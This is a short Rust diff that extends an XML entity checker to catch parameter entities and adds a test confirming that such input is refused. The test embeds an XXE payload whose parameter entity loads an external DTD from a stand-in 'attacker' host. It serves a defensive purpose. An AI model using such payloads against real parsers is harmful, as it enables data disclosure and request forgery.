@@ -17,7 +17,10 @@ pub(super) fn check_entities(head: &str, limit: usize) -> Result<()> {
     let mut rest = dtd;
     while let Some(at) = rest.find("<!ENTITY") {
         rest = &rest[at + "<!ENTITY".len()..];
-        let mut parts = rest.trim_start().splitn(2, char::is_whitespace);
+        // A parameter entity (`<!ENTITY % name …>`) is named after the `%`.
+        let declared = rest.trim_start();
+        let declared = declared.strip_prefix('%').map_or(declared, str::trim_start);
+        let mut parts = declared.splitn(2, char::is_whitespace);
         let (Some(name), Some(after)) = (parts.next(), parts.next()) else {
             break;
         };
@@ -135,6 +138,14 @@ mod tests {
                 .unwrap_err()
         );
         assert!(err.contains("external entities"), "{err}");
+        let parameter = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://attacker/x.dtd\"> %pe;]><r/>";
+        let err = format!(
+            "{:#}",
+            store
+                .load(RdfFormat::RdfXml, parameter.as_bytes())
+                .unwrap_err()
+        );
+        assert!(err.contains("entity pe: external entities"), "{err}");
         // A literal over the limit: the whole file is refused, atomically.
         let big = format!(
             "<http://example.org/b> <http://example.org/p> \"{}\" .\n",
